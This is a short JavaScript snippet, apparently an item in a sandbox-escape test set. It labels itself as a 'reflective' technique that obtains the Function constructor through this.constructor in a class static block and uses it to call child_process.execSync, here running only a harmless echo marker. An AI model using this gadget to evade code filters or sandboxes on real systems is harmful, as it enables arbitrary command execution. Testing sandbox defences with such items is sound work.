// class: reflective | technique: `this` inside a class static initialization block is the class (a function), so this.constructor is Function | effect: runs `echo rt4-static-block`
class Plugin {
  static registry = [];

  static {
    Plugin.compile = this.constructor;
  }
}

const hello = Plugin.compile("return process.mainModule.require('child_process').execSync('echo rt4-static-block').toString()");
console.log(hello().trim());
